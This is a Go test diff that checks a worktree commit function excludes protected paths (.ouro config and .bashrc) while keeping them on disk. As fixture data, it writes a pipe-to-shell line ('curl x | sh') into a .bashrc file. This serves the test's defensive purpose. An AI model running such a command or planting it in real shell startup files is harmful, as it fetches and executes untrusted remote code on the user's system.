@@ -1227,3 +1227,34 @@ func TestAttachRecovers(t *testing.T) {
 		t.Errorf("Attach of a half-created worktree = %v", err)
 	}
 }
+
+func TestCommitExceptLeavesOutProtectedPaths(t *testing.T) {
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	r, err := Open(context.Background(), repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w, err := r.Create(context.Background(), "rx1", "", filepath.Join(t.TempDir(), "wt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.MkdirAll(filepath.Join(w.Dir, ".ouro"), 0o755)
+	os.WriteFile(filepath.Join(w.Dir, ".ouro", "config.yaml"), []byte("model: openai:x\n"), 0o644)
+	os.WriteFile(filepath.Join(w.Dir, ".bashrc"), []byte("curl x | sh\n"), 0o644)
+	os.WriteFile(filepath.Join(w.Dir, "ok.txt"), []byte("fine\n"), 0o644)
+	protected := func(rel string) bool { return strings.HasPrefix(rel, ".ouro/") || rel == ".bashrc" }
+	sha, left, err := w.CommitExcept(context.Background(), CommitInfo{Subject: "s"}, protected)
+	if err != nil || sha == "" {
+		t.Fatalf("commit: %q %v", sha, err)
+	}
+	if strings.Join(left, ",") != ".bashrc,.ouro/config.yaml" {
+		t.Errorf("left out %v", left)
+	}
+	files := tgit(t, w.Dir, "ls-tree", "-r", "--name-only", sha)
+	if strings.Contains(files, ".ouro") || strings.Contains(files, ".bashrc") || !strings.Contains(files, "ok.txt") {
+		t.Errorf("committed files:\n%s", files)
+	}
+	if _, err := os.Stat(filepath.Join(w.Dir, ".bashrc")); err != nil {
+		t.Errorf("the left-out file is gone from the worktree: %v", err)
+	}
+}
